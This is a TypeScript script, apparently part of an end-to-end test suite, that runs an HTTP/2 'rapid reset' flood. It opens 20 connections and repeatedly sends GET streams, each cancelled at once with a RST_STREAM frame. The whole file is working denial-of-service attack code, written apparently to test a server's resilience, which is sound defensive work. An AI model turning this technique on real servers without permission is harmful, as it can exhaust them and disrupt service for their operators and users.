// Asks for 100,000 pages on 20 connections of HTTP/2 and takes each back at once ("rapid reset"):
// `npm exec -- node e2e/src/attacks/resets.ts`.
import { once } from "node:events";
import { setTimeout as wait } from "node:timers/promises";
import { attack } from "./attack.ts";
import { connectTo } from "./connect-to.ts";
import { frame, get, PREFACE } from "./frames.ts";

const CANCEL = Buffer.from([0, 0, 0, 8]);

await attack("resets", async (target) => {
  let sent = 0;
  await Promise.all(
    Array.from({ length: 20 }, async () => {
      const socket = await connectTo(target, PREFACE);
      for (let id = 1; id < 10_000 && !socket.destroyed; id += 2) {
        sent++;
        if (socket.write(Buffer.concat([get(id), frame(3, 0, id, CANCEL)]))) continue;
        await Promise.race([once(socket, "drain"), once(socket, "close")]).catch(() => {});
      }
      await wait(3_000);
      socket.destroy();
    }),
  );
  return { sent };
});
